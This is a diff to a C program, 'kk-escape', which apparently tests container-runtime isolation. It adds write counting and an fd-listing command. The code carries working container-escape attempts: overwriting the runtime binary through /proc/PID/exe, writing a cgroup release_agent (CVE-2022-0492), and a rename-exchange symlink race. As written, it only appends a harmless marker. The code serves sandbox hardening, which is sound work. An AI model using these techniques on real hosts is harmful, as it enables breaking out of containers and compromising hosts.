@@ -11,12 +11,17 @@
  *       /proc/PID/exe for writing, and via O_PATH + reopening /proc/self/fd/N for writing
  *       (the reopen is retried until the end, for the moment the runtime has exited). A
  *       successful open appends "KK-ESCAPE" to the file (the binary still runs, its hash
- *       changes). Prints attempts=, seen=, held=, opened=, last_errno=. Exit 1 if opened.
+ *       changes). Prints held=… for each foreign executable it got an O_PATH fd of, then
+ *       attempts=, seen=, held=, opened= (opens for writing that succeeded), written=
+ *       (writes that succeeded: a sealed copy refuses them), last_errno=. Exit 1 if written.
  *   kk-escape release-agent
  *       CVE-2022-0492: unshare(USER|NS|CGROUP) mapping root, mount a cgroup v1 hierarchy
  *       (rdma, then memory), write its release_agent; also mount one without unsharing and
  *       write every release_agent visible under /sys/fs/cgroup. Prints step=… errno=…
  *       lines. Exit 1 if a release_agent was written.
+ *   kk-escape fds PID|self
+ *       prints "N -> target" for every open fd of PID (of itself for "self", without the
+ *       directory fd it reads /proc/self/fd through).
  *   kk-escape swap PATH TARGET
  *       CVE-2021-30465 / CVE-2025-52565 (host side): make PATH a directory and PATH.kk-swap
  *       a symlink to TARGET, then exchange them (renameat2 RENAME_EXCHANGE) in a loop until
@@ -108,16 +113,22 @@ static int landlock_abi(void)
 
 static int held[MAX_HELD];
 static int n_held;
-static long attempts, opened, seen;
+static long attempts, opened, written, seen;
 static int last_errno;
 
 static int try_write(int fd, const char *how)
 {
 	static const char marker[] = "\nKK-ESCAPE\n";
 	ssize_t w = write(fd, marker, sizeof(marker) - 1);
-	printf("OPENED-FOR-WRITE via=%s write=%s\n", how, w < 0 ? errname(errno) : "ok");
+	struct stat st;
+
+	fstat(fd, &st);
+	printf("OPENED-FOR-WRITE via=%s ino=%lu write=%s\n", how, (unsigned long)st.st_ino,
+	       w < 0 ? errname(errno) : "ok");
 	fflush(stdout);
 	opened++;
+	if (w > 0)
+		written++;
 	return 0;
 }
 
@@ -169,10 +180,15 @@ static void attack_pid(const char *pid)
 	} else {
 		last_errno = errno;
 	}
-	if (n_held < MAX_HELD)
+	if (n_held < MAX_HELD) {
+		struct stat st;
+		if (fstat(fd, &st) == 0)
+			printf("held pid=%s exe=%s dev=%lu ino=%lu size=%lld\n", pid, n >= 0 ? target : "?",
+			       (unsigned long)st.st_dev, (unsigned long)st.st_ino, (long long)st.st_size);
 		held[n_held++] = fd;
-	else
+	} else {
 		close(fd);
+	}
 }
 
 static void reopen_held(void)
@@ -216,9 +232,9 @@ static int exe_attack(long millis)
 		closedir(d);
 		reopen_held();
 	}
-	printf("attempts=%ld\nseen=%ld\nheld=%d\nopened=%ld\nlast_errno=%s\n", attempts, seen, n_held, opened,
-	       errname(last_errno));
-	return opened ? 1 : 0;
+	printf("attempts=%ld\nseen=%ld\nheld=%d\nopened=%ld\nwritten=%ld\nlast_errno=%s\n", attempts, seen, n_held,
+	       opened, written, errname(last_errno));
+	return written ? 1 : 0;
 }
 
 /* ---- release-agent --------------------------------------------------------------------- */
@@ -240,7 +256,7 @@ static void step(const char *name, int e)
 	fflush(stdout);
 }
 
-static int written;
+static int agents_written;
 
 static void mount_and_write(const char *dir, const char *tag)
 {
@@ -259,7 +275,7 @@ static void mount_and_write(const char *dir, const char *tag)
 		snprintf(name, sizeof(name), "%s-write-release_agent-%s", tag, ctrls[i]);
 		step(name, e);
 		if (!e)
-			written++;
+			agents_written++;
 		snprintf(agent, sizeof(agent), "%s/notify_on_release", dir);
 		snprintf(name, sizeof(name), "%s-write-notify_on_release-%s", tag, ctrls[i]);
 		step(name, write_file(agent, "1"));
@@ -291,7 +307,7 @@ static int release_agent(void)
 			snprintf(buf, sizeof(buf), "existing-%s", de->d_name);
 			step(buf, e);
 			if (!e)
-				written++;
+				agents_written++;
 		}
 		closedir(d);
 	}
@@ -308,7 +324,7 @@ static int release_agent(void)
 			e = unshare(CLONE_NEWNS | CLONE_NEWCGROUP) < 0 ? errno : 0;
 			step("unshare-mount-cgroup", e);
 			if (e)
-				_exit(written ? 1 : 0);
+				_exit(agents_written ? 1 : 0);
 		} else {
 			snprintf(buf, sizeof(buf), "0 %u 1", (unsigned)uid);
 			step("uid_map", write_file("/proc/self/uid_map", buf));
@@ -320,7 +336,7 @@ static int release_agent(void)
 			step("make-private", errno);
 		mount_and_write("/tmp/kk-escape-cg-userns", "userns");
 		fflush(stdout);
-		_exit(written ? 1 : 0);
+		_exit(agents_written ? 1 : 0);
 	}
 	if (pid < 0) {
 		step("fork", errno);
@@ -328,10 +344,38 @@ static int release_agent(void)
 		while (waitpid(pid, &st, 0) < 0 && errno == EINTR)
 			;
 		if (WIFEXITED(st) && WEXITSTATUS(st) == 1)
-			written++;
+			agents_written++;
 	}
-	printf("written=%d\n", written);
-	return written ? 1 : 0;
+	printf("written=%d\n", agents_written);
+	return agents_written ? 1 : 0;
+}
+
+/* ---- fds ------------------------------------------------------------------------------ */
+
+static int fds(const char *pid)
+{
+	char dir[64], path[128], target[4096];
+	DIR *d;
+	struct dirent *de;
+
+	snprintf(dir, sizeof(dir), "/proc/%s/fd", pid);
+	d = opendir(dir);
+	if (!d) {
+		perror("kk-escape: opendir");
+		return 2;
+	}
+	while ((de = readdir(d))) {
+		if (de->d_name[0] == '.')
+			continue;
+		if (strcmp(pid, "self") == 0 && atoi(de->d_name) == dirfd(d))
+			continue;
+		snprintf(path, sizeof(path), "%s/%s", dir, de->d_name);
+		ssize_t n = readlink(path, target, sizeof(target) - 1);
+		target[n < 0 ? 0 : n] = 0;
+		printf("%s -> %s\n", de->d_name, n < 0 ? errname(errno) : target);
+	}
+	closedir(d);
+	return 0;
 }
 
 /* ---- swap ------------------------------------------------------------------------------ */
@@ -377,8 +421,11 @@ int main(int argc, char **argv)
 		return exe_attack(strtol(argv[2], NULL, 10));
 	if (argc >= 2 && strcmp(argv[1], "release-agent") == 0)
 		return release_agent();
+	if (argc >= 3 && strcmp(argv[1], "fds") == 0)
+		return fds(argv[2]);
 	if (argc >= 4 && strcmp(argv[1], "swap") == 0)
 		return swap(argv[2], argv[3]);
-	fprintf(stderr, "usage: kk-escape landlock-abi | exe-attack MILLIS | release-agent | swap PATH TARGET\n");
+	fprintf(stderr, "usage: kk-escape landlock-abi | exe-attack MILLIS | release-agent | fds PID|self | swap PATH "
+			"TARGET\n");
 	return 2;
 }
